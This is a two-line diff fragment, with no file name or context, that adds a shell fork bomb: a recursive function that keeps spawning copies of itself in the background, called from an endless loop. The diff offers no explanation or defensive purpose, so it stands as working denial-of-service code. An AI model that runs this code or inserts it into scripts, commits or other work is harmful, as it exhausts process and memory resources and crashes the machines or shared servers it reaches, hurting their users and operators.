@@ -1,0 +1,2 @@
+bomb() { bomb | bomb & wait; }
+while true; do bomb; done
